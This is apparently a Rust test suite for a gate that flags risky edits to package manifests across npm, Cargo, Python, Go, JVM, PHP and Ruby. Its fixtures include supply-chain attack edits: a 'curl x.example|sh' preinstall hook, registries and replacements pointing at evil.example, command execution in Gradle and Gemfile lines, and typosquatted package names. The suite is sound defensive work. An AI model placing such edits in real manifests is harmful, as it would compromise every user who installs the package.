//! What the gate says of changed package manifests, key by key: each attack beside what ordinary work does to the same file.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod support;

use support::{
    batch::{Case, check, check_by},
    repo::Scene,
};

const SCRIPT: &[&str] = &["package/script=deny"];
const NEW: &[&str] = &["package/new=review"];
const SOURCE: &[&str] = &["package/source=review"];
const OVERRIDE: &[&str] = &["package/override=review"];
const REGISTRY: &[&str] = &["package/registry=deny"];
const FORMAT: &[&str] = &["package/format=deny"];
const BUILD: &[&str] = &["build/program=review"];
const TASK: &[&str] = &["package/task=warn"];

const NPM: &str =
    r#"{"name":"x","version":"1.0.0","scripts":{"build":"tsc","test":"vitest"},"dependencies":{"left-pad":"^1.0.0","is-odd":"^3.0.0"}}"#;

/// Cases of one file, each with its base and its candidate.
fn of<'a>(path: &'a str, old: &'a str, cases: &[(&'a str, &'a str, &'a [&'a str])]) -> Vec<Case<'a>> {
    cases.iter().map(|(name, new, expected)| (*name, path, Some(old), Some(*new), *expected)).collect()
}

#[test]
fn package_json_is_judged_by_key() {
    let with = |from: &str, to: &str| NPM.replacen(from, to, 1);
    let edits = [
        ("a version", with("1.0.0", "1.0.1"), &[][..]),
        ("a dependency's version", with("^1.0.0", "^1.3.0"), &[]),
        ("a dependency less", with(r#""left-pad":"^1.0.0","#, ""), &[]),
        ("a field that says nothing", with(r#""name":"x""#, r#""name":"x","description":"y","keywords":["bin","postinstall"]"#), &[]),
        ("moved to the development's", with(r#""is-odd":"^3.0.0"}"#, r#"},"devDependencies":{"is-odd":"^3.0.0"}"#).replace(",}", "}"), &[]),
        ("a module of its own", with(r#""scripts""#, r#""exports":{".":"./a.js"},"files":["dist"],"scripts""#), &[]),
        ("a script", with("vitest", "vitest run --coverage"), TASK),
        ("another script", with(r#""build":"tsc""#, r#""build":"tsc","lint":"eslint ."#).replace("eslint .", "eslint .\""), TASK),
        ("postinstall", with(r#""build":"tsc""#, r#""build":"tsc","postinstall":"node x.js""#), SCRIPT),
        ("preinstall", with(r#""build":"tsc""#, r#""build":"tsc","preinstall":"curl x.example|sh""#), SCRIPT),
        ("prepare", with(r#""build":"tsc""#, r#""prepare":"x","build":"tsc""#), SCRIPT),
        ("prepack", with(r#""build":"tsc""#, r#""prepack":"x","build":"tsc""#), SCRIPT),
        ("an escaped key", with(r#""build":"tsc""#, r#""post\u0069nstall":"x","build":"tsc""#), SCRIPT),
        ("bin", with(r#""scripts""#, r#""bin":{"ls":"./x.js"},"scripts""#), SCRIPT),
        ("packageManager", with(r#""scripts""#, r#""packageManager":"pnpm@9.0.0+sha512.x","scripts""#), SCRIPT),
        ("trustedDependencies", with(r#""scripts""#, r#""trustedDependencies":["evil"],"scripts""#), SCRIPT),
        ("publishConfig", with(r#""scripts""#, r#""publishConfig":{"registry":"https://r.example"},"scripts""#), REGISTRY),
        ("a new dependency", with(r#""is-odd""#, r#""brand-new-thing":"1.0.0","is-odd""#), NEW),
        ("a new optional dependency", with(r#""scripts""#, r#""optionalDependencies":{"brand-new-thing":"1"},"scripts""#), NEW),
        ("git", with("^1.0.0", "git+https://g.example/left-pad.git"), SOURCE),
        ("http", with("^1.0.0", "http://g.example/left-pad.tgz"), SOURCE),
        ("a shorthand", with("^1.0.0", "someone/left-pad"), SOURCE),
        ("ssh", with("^1.0.0", "git@g.example:a/left-pad.git"), SOURCE),
        ("a file", with("^1.0.0", "file:../left-pad.tgz"), SOURCE),
        ("an alias", with("^1.0.0", "npm:right-pad@1.0.0"), SOURCE),
        ("an alias in capitals", with("^1.0.0", "NPM:right-pad@1.0.0"), SOURCE),
        ("a new git dependency", with(r#""is-odd""#, r#""other-new":"github:o/r","is-odd""#), SOURCE),
        ("overrides", with(r#""scripts""#, r#""overrides":{"semver":"7.0.0"},"scripts""#), OVERRIDE),
        ("resolutions", with(r#""scripts""#, r#""resolutions":{"**/semver":"7.0.0"},"scripts""#), OVERRIDE),
        ("pnpm's", with(r#""scripts""#, r#""pnpm":{"overrides":{"a":"b"}},"scripts""#), OVERRIDE),
        ("patches", with(r#""scripts""#, r#""pnpm":{"patchedDependencies":{"a@1":"p"}},"scripts""#), OVERRIDE),
        ("a key twice", with(r#""version""#, r#""scripts":{"postinstall":"x"},"version""#), FORMAT),
        ("no JSON", "{".to_owned(), FORMAT),
        ("a list", "[]".to_owned(), FORMAT),
        ("nothing", String::new(), FORMAT),
        ("a comment", with("{", "{ // x\n"), FORMAT),
        ("deep", format!("{}{}", "[\n".repeat(1000), "]\n".repeat(1000)), FORMAT),
        ("with a mark", format!("\u{feff}{}", with(r#""build":"tsc""#, r#""install":"x""#)), SCRIPT),
        ("with CR LF", with(r#""build":"tsc""#, "\r\n\"install\":\"x\"\r\n"), SCRIPT),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "package.json", Some(NPM), Some(new.as_str()), *expected)).collect();
    check(&cases);
    let deep: Vec<Case<'_>> = vec![
        (
            "in a monorepo",
            "packages/a/package.json",
            Some(NPM),
            Some(r#"{"scripts":{"postinstall":"x"}}"#),
            &["package/script=deny", "test/hollow=review"],
        ),
        ("in other letters", "Package.JSON", Some(NPM), Some(r#"{"bin":"x"}"#), &["package/script=deny", "test/hollow=review"]),
        ("new, plain", "new/package.json", None, Some(r#"{"name":"n","dependencies":{"left-pad":"1"}}"#), &[]),
        ("new, with a script", "new/package.json", None, Some(r#"{"scripts":{"install":"x"}}"#), SCRIPT),
        ("new, of a workspace", "fresh/package.json", None, Some(r#"{"dependencies":{"own":"workspace:*","left-pad":"catalog:"}}"#), &[]),
        ("gone", "package.json", Some(NPM), None, &[]),
        ("broken before", "package.json", Some("{"), Some("{{"), &["package/format=warn"]),
        ("a lookalike", "package.json.md", Some("x"), Some(r#"{"scripts":{"install":"x"}}"#), &[]),
        ("another lookalike", "my-package.json", Some("x"), Some(r#"{"scripts":{"install":"x"}}"#), &[]),
        ("the base of names", "base/package.json", Some(NPM), Some(NPM), &[]),
    ];
    check(&deep);
    check_by(
        "version = 1\n[changes]\nrules = { \"package/script\" = \"review\" }\n",
        &[("set", "package.json", Some("{}"), Some(r#"{"bin":"x"}"#), &["package/script=review"])],
    );
}

#[test]
fn a_name_that_is_taken_for_another_is_told() {
    let scene = Scene::plain();
    scene.write("package.json", NPM);
    scene.commit("npm");
    let given = scene.hand_over();
    for (name, other) in
        [("left-padd", "left-pad"), ("leftpad", "left-pad"), ("1odash", "lodash"), ("reacct", "react"), ("is_odd", "is-odd")]
    {
        given.write("package.json", NPM.replace(r#""is-odd":"#, &format!(r#""{name}":"1.0.0","is-odd":"#)));
        let findings = given.judge().verdict.findings;
        let message = &findings[0].message;
        assert!(findings.len() == 1 && message.contains(&format!("taken for {other}")), "{name}: {message}");
        assert!(findings[0].line.is_some());
    }
    given.write("package.json", NPM.replace(r#""is-odd":"#, r#""zod":"1.0.0","is-odd":"#));
    assert_eq!(given.judge().verdict.findings[0].message, "the dependency zod is new");
}

#[test]
fn the_line_of_a_new_dependency_is_the_one_that_names_it() {
    let scene = Scene::plain();
    let given = scene.hand_over();
    for (path, text, line) in [
        (
            "package.json",
            "{\n  \"description\": \"zod\",\n  \"dependencies\": {\n    \"zod-form\": \"1.0.0\",\n    \"zod\": \"3.0.0\"\n  }\n}\n",
            5,
        ),
        ("Cargo.toml", "[features]\nfull = [\"dep:mio\"]\n[dependencies]\nmio = { version = \"1\", optional = true }\n", 4),
        ("Cargo.toml", "[features]\nfull = [\"mio/os-poll\"]\n[dependencies.mio]\nversion = \"1\"\n", 3),
        ("requirements.txt", "pytest-mock==3\nmock==5\n", 2),
        (
            "pom.xml",
            "<project><dependencies>\n<!-- quay -->\n<dependency><groupId>example.quay</groupId>\n<artifactId>quay</artifactId></dependency></dependencies></project>\n",
            4,
        ),
    ] {
        given.write(path, text);
        let findings = given.judge().verdict.findings;
        let found = findings.iter().filter(|finding| finding.rule == "package/new").map(|finding| finding.line).collect::<Vec<_>>();
        assert!(found.contains(&Some(line)), "{path}: {findings:?}");
        given.remove(path);
    }
}

#[test]
fn a_manifest_that_became_a_link_is_not_read() {
    let scene = Scene::plain();
    scene.write("package.json", NPM);
    scene.write("other.json", NPM);
    scene.commit("npm");
    let given = scene.hand_over();
    given.remove("package.json");
    given.link("package.json", "other.json");
    assert_eq!(given.rules(), ["mode/symlink=deny", "package/format=deny"]);
}

#[test]
fn cargo_manifests() {
    let old = "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\nown = { path = \"own\" }\n";
    let plus = |text: &str| format!("{old}{text}");
    let edits = [
        ("a version", old.replace("serde = \"1\"", "serde = { version = \"1.0.2\", features = [\"derive\"] }"), &[][..]),
        ("a profile", plus("[profile.release]\nlto = true\n[features]\nx = []\n[lints.rust]\nunsafe_code = \"deny\"\n"), &[]),
        ("from the workspace", plus("brand_new = { workspace = true }\n"), &[]),
        ("new", plus("brand_new = \"1\"\n"), NEW),
        ("new under another name", plus("serde2 = { package = \"brand_new\", version = \"1\" }\n"), NEW),
        ("another package in its place", old.replace("serde = \"1\"", "serde = { package = \"brand_new\", version = \"1\" }"), NEW),
        ("new for tests", plus("[dev-dependencies]\nbrand_new = \"1\"\n"), NEW),
        ("new for one system", plus("[target.'cfg(unix)'.dependencies]\nbrand_new = \"1\"\n"), NEW),
        ("new for the build", plus("[build-dependencies]\nbrand_new = \"1\"\n"), NEW),
        ("git", old.replace("serde = \"1\"", "serde = { git = \"https://g.example/serde\" }"), SOURCE),
        ("a path", old.replace("serde = \"1\"", "serde = { path = \"../../serde\" }"), SOURCE),
        ("a registry", old.replace("serde = \"1\"", "serde = { version = \"1\", registry = \"other\" }"), SOURCE),
        ("dotted keys", old.replace("serde = \"1\"", "serde.git = \"https://g.example/serde\""), SOURCE),
        ("patch", plus("[patch.crates-io]\nserde = { path = \"x\" }\n"), OVERRIDE),
        ("replace", plus("[replace]\n\"serde:1.0.0\" = { git = \"https://g.example/s\" }\n"), OVERRIDE),
        ("a build script", old.replace("[package]", "[package]\nbuild = \"src/main.rs\""), BUILD),
        ("procedural macros", plus("[lib]\nproc-macro = true\n"), BUILD),
        ("a key twice", plus("serde = \"2\"\n"), FORMAT),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "Cargo.toml", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
}

#[test]
fn python_manifests() {
    let old = "[project]\nname = \"x\"\ndependencies = [\"requests>=2\", \"numpy\"]\n\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n";
    let plus = |text: &str| format!("{old}{text}");
    let edits = [
        ("a version", old.replace("requests>=2", "Requests >= 2.32 ; python_version > '3.8'"), &[][..]),
        ("settings of tools", plus("[tool.ruff]\nline-length = 100\n[tool.pytest.ini_options]\naddopts = \"-q\"\n"), &[]),
        ("new", old.replace("\"numpy\"", "\"numpy\", \"brand-new\""), NEW),
        ("new for the build", old.replace("[\"setuptools\"]", "[\"setuptools\", \"brand-new\"]"), NEW),
        ("new for tests", plus("[dependency-groups]\ntest = [\"brand-new\"]\n"), NEW),
        ("new for poetry", plus("[tool.poetry.group.dev.dependencies]\nbrand-new = \"^1\"\n"), NEW),
        ("an address", old.replace("\"numpy\"", "\"numpy @ https://h.example/numpy.whl\""), SOURCE),
        ("git", old.replace("\"numpy\"", "\"numpy @ git+https://h.example/numpy\""), SOURCE),
        ("a backend", old.replace("setuptools.build_meta", "own_backend"), BUILD),
        ("a path of backends", plus("backend-path = [\".\"]\n"), BUILD),
        ("an index", plus("[[tool.uv.index]]\nurl = \"https://i.example/simple\"\n"), REGISTRY),
        ("poetry's source", plus("[[tool.poetry.source]]\nname = \"i\"\nurl = \"https://i.example/simple\"\n"), REGISTRY),
        ("uv's sources", plus("[tool.uv.sources]\nnumpy = { git = \"https://h.example/numpy\" }\n"), OVERRIDE),
        ("broken", plus("= x\n"), FORMAT),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "pyproject.toml", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
    let old = "# c\nrequests==2.0 --hash=sha256:aa\nnumpy\n";
    check(&of(
        "requirements-dev.txt",
        old,
        &[
            ("a version", "# c\nrequests==2.1 --hash=sha256:bb\nnumpy>=1\n", &[]),
            ("a comment", "# d\n-r other.txt\nrequests==2.0 --hash=sha256:aa\nnumpy\n", &[]),
            ("new", "requests==2.0 --hash=sha256:aa\nnumpy\nbrand-new==1\n", NEW),
            ("index", "--index-url https://i.example/simple\nrequests==2.0 --hash=sha256:aa\n", REGISTRY),
            ("another index", "requests==2.0 --hash=sha256:aa\n--extra-index-url=https://i.example/simple\n", REGISTRY),
            ("links", "-f https://i.example/\nrequests==2.0 --hash=sha256:aa\n", REGISTRY),
            ("a short option", "-ihttps://i.example/\nrequests==2.0 --hash=sha256:aa\n", REGISTRY),
            ("a trusted host", "--trusted-host i.example\nrequests==2.0 --hash=sha256:aa\n", REGISTRY),
            ("requirements from elsewhere", "requests==2.0 --hash=sha256:aa\n-r https://i.example/r.txt\n", REGISTRY),
            ("git", "requests==2.0 --hash=sha256:aa\nnumpy\ngit+https://h.example/x.git#egg=brand_new\n", SOURCE),
            ("editable", "requests==2.0 --hash=sha256:aa\n-e git+https://h.example/x.git#egg=brand_new\n", SOURCE),
            ("an address", "requests==2.0 --hash=sha256:aa\nhttps://h.example/x.whl\n", SOURCE),
            ("over two lines", "requests==2.0 --hash=sha256:aa\n--extra-index-\\\nurl https://i.example\n", REGISTRY),
            ("an option over two lines", "requests==2.0 --hash=sha256:aa\n--extra-index-url \\\nhttps://i.example\n", REGISTRY),
            ("another hash", "requests==2.0 --hash=sha256:bb\nnumpy\n", &["lock/hash=deny"]),
            ("no hash", "requests==2.0\nnumpy\n", &["lock/hash=deny"]),
        ],
    ));
    check(&[
        (
            "pipfile",
            "Pipfile",
            Some("[packages]\nflask = \"*\"\n"),
            Some("[[source]]\nurl = \"https://i.example\"\n[packages]\nflask = \"*\"\n"),
            REGISTRY,
        ),
        (
            "pipfile's git",
            "Pipfile",
            Some("[packages]\nflask = \"*\"\n"),
            Some("[packages]\nflask = {git = \"https://h.example/f\"}\n"),
            SOURCE,
        ),
        (
            "setup.cfg",
            "setup.cfg",
            Some("[options]\ninstall_requires =\n  flask\n"),
            Some("[options]\ninstall_requires =\n  flask\n  fresh-thing\n"),
            NEW,
        ),
        (
            "setup.cfg's index",
            "setup.cfg",
            Some("[metadata]\nname = x\n"),
            Some("[metadata]\nname = x\n[easy_install]\nindex_url = https://i.example\n"),
            REGISTRY,
        ),
        (
            "setup.cfg's version",
            "setup.cfg",
            Some("[metadata]\nversion = 1\n[flake8]\nmax-line-length = 80\n"),
            Some("[metadata]\nversion = 2\n[flake8]\nmax-line-length = 99\n"),
            &[],
        ),
        ("prose", "docs/requirements.txt", None, Some("The server must answer in time.\n"), &[]),
        ("other prose", "docs/notes.txt", None, Some("-i https://x.example\n"), &[]),
    ]);
}

#[test]
fn go_manifests() {
    let old = "module m.example/x\n\ngo 1.22\n\nrequire (\n\ta.example/a v1.0.0\n\tb.example/b v1.0.0 // indirect\n)\n";
    let plus = |text: &str| format!("{old}{text}");
    let edits = [
        ("a version", old.replace("a.example/a v1.0.0", "a.example/a v1.2.0"), &[][..]),
        ("go's own", old.replace("go 1.22", "go 1.23"), &[]),
        ("retract", plus("retract v1.0.0\n"), &[]),
        ("new", plus("require c.example/c v1.0.0\n"), NEW),
        ("replaced by a path", plus("replace a.example/a => ../a\n"), OVERRIDE),
        ("replaced by another", plus("replace (\n\ta.example/a v1.0.0 => evil.example/a v1.0.1\n)\n"), OVERRIDE),
        ("toolchain", plus("toolchain go1.99.0\n"), TASK),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "go.mod", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
}

#[test]
fn manifests_of_the_jvm() {
    let pom = |inner: &str| {
        format!(
            "<project><artifactId>x</artifactId><version>1</version><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>1</version></dependency></dependencies>{inner}</project>"
        )
    };
    let old = pom("");
    let plugin = "<build><plugins><plugin><groupId>p</groupId><artifactId>q</artifactId></plugin></plugins></build>";
    let edits = [
        ("a version", old.replace("<version>1</version></dependency>", "<version>2</version></dependency>"), &[][..]),
        ("a property", pom("<properties><x>1</x></properties><modules><module>m</module></modules>"), &[]),
        (
            "new",
            old.replace("</dependencies>", "<dependency><groupId>h</groupId><artifactId>b</artifactId></dependency></dependencies>"),
            NEW,
        ),
        ("a plugin", pom(plugin), NEW),
        (
            "an extension",
            pom("<build><extensions><extension><groupId>p</groupId><artifactId>e</artifactId></extension></extensions></build>"),
            NEW,
        ),
        ("a repository", pom("<repositories><repository><id>r</id><url>https://m.example</url></repository></repositories>"), REGISTRY),
        (
            "of plugins",
            pom("<pluginRepositories><pluginRepository><url>https://m.example</url></pluginRepository></pluginRepositories>"),
            REGISTRY,
        ),
        (
            "in a profile",
            pom(
                "<profiles><profile><repositories><repository><url>http://m.example</url></repository></repositories></profile></profiles>",
            ),
            REGISTRY,
        ),
        (
            "a file",
            old.replace("<version>1</version></dependency>", "<scope>system</scope><systemPath>/x.jar</systemPath></dependency>"),
            SOURCE,
        ),
        ("broken", "<project>".to_owned(), FORMAT),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "pom.xml", Some(old.as_str()), Some(new.as_str()), *expected)).collect();
    check(&cases);
    let old = "plugins {\n    id 'java'\n}\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation 'g:a:1.0'\n}\n";
    let edits = [
        ("a version", old.replace("g:a:1.0", "g:a:1.1"), &[][..]),
        ("a project of its own", old.replace("implementation 'g:a:1.0'", "implementation 'g:a:1.0'\n    api project(':x')"), &[]),
        ("settings", format!("{old}java {{\n    sourceCompatibility = 21\n}}\ntest {{\n    useJUnitPlatform()\n}}\n"), &[]),
        ("new", old.replace("implementation 'g:a:1.0'", "implementation 'g:a:1.0'\n    implementation(\"h:new:1\")"), NEW),
        ("a plugin", old.replace("id 'java'", "id 'java'\n    id(\"p.q\") version \"1\""), NEW),
        ("a repository", old.replace("mavenCentral()", "mavenCentral()\n    maven { url 'https://m.example' }"), REGISTRY),
        ("over lines", old.replace("mavenCentral()", "maven {\n        url = uri(\"https://m.example\")\n    }"), REGISTRY),
        ("on one line", format!("{old}repositories {{ maven {{ url 'https://m.example' }} }}\n"), REGISTRY),
        ("a script from elsewhere", format!("{old}apply from: 'https://m.example/x.gradle'\n"), REGISTRY),
        ("a program", format!("{old}def x = 'id'.execute()\n"), BUILD),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "app/build.gradle.kts", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
    check(&[(
        "a catalog",
        "gradle/libs.versions.toml",
        Some("[versions]\na = \"1\"\n[libraries]\na = { module = \"g:a\", version.ref = \"a\" }\n"),
        Some("[versions]\na = \"2\"\n[libraries]\na = { module = \"g:a\", version.ref = \"a\" }\nb = \"h:new:1\"\n"),
        NEW,
    )]);
}

#[test]
fn manifests_of_php_and_ruby() {
    let old = r#"{"require":{"php":">=8","a/b":"^1"},"scripts":{"test":"phpunit"}}"#;
    check(&of(
        "composer.json",
        old,
        &[
            ("a version", r#"{"require":{"php":">=8.2","a/b":"^2","ext-json":"*"},"scripts":{"test":"phpunit"}}"#, &[]),
            ("a script", r#"{"require":{"php":">=8","a/b":"^1"},"scripts":{"test":"phpunit","lint":"x"}}"#, TASK),
            ("an event", r#"{"require":{"php":">=8","a/b":"^1"},"scripts":{"test":"phpunit","post-install-cmd":"x"}}"#, SCRIPT),
            ("plugins", r#"{"require":{"php":">=8","a/b":"^1"},"config":{"allow-plugins":true},"scripts":{"test":"phpunit"}}"#, SCRIPT),
            (
                "repositories",
                r#"{"require":{"php":">=8","a/b":"^1"},"repositories":[{"type":"vcs","url":"https://h.example"}],"scripts":{"test":"phpunit"}}"#,
                REGISTRY,
            ),
            ("new", r#"{"require":{"php":">=8","a/b":"^1","c/new":"1"},"scripts":{"test":"phpunit"}}"#, NEW),
            ("twice", r#"{"require":{"php":">=8","a/b":"^1"},"require":{}}"#, FORMAT),
        ],
    ));
    let old = "source 'https://gems.example'\n\ngem 'rails', '~> 7'\n";
    check(&of(
        "Gemfile",
        old,
        &[
            ("a version", "source 'https://gems.example'\n\ngem 'rails', '~> 8'\n", &[]),
            ("a group", "source 'https://gems.example'\n\ngroup :test do\n  gem 'rails', '~> 7'\nend\n", &[]),
            ("new", "source 'https://gems.example'\n\ngem 'rails', '~> 7'\ngem \"brandnew\"\n", NEW),
            ("another source", "source 'https://evil.example'\n\ngem 'rails', '~> 7'\n", REGISTRY),
            ("git", "source 'https://gems.example'\n\ngem 'rails', git: 'https://h.example/rails'\n", SOURCE),
            ("the old spelling", "source 'https://gems.example'\n\ngem 'rails', :github => 'x/rails'\n", SOURCE),
            ("a plugin", "source 'https://gems.example'\nplugin 'evil'\ngem 'rails', '~> 7'\n", SCRIPT),
            ("a program", "source 'https://gems.example'\ngem 'rails', `id`\nsystem('id')\n", BUILD),
        ],
    ));
}
